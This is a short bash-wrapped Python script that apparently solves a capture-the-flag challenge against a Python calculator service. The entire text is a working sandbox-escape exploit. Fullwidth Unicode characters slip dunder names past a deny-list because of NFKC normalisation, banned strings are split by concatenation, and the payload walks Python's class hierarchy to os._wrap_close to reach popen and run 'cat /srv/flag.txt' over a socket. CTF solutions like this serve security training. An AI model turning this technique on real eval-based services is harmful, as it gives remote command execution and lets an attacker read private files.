#!/bin/bash
# The deny-list checks the raw text, but Python NFKC-normalises identifiers:
# a fullwidth low line (U+FF3F) becomes "_" after the check (fullwidth
# letters likewise). Walk from () to
# os._wrap_close and call popen from its globals; build banned strings by
# concatenation.
set -e
python3 - <<'PY'
import re, socket
# U+FF3F is not XID_Start, so each name starts with one ASCII "_"
d = lambda n: "_\uff3f" + n + "\uff3f\uff3f"
# fullwidth first letters (U+FF53 s, U+FF47 g) also normalise away
expr = ("[c for c in ()." + d("class") + "." + d("base") + "." + d("\uff53ubclasses") + "() "
        "if c." + d("name") + "=='_wrap_clo'+'se'][0]." + d("init") + "." + d("\uff47lobals") +
        "['po'+'pen']('cat /srv/fl'+'ag.txt').read()")
s = socket.create_connection(("calc", 9301), timeout=10)
s.sendall(expr.encode() + b"\nquit\n")
out = b""
while True:
    x = s.recv(4096)
    if not x:
        break
    out += x
print(re.search(rb"flag\{[0-9a-f]+\}", out).group(0).decode())
PY
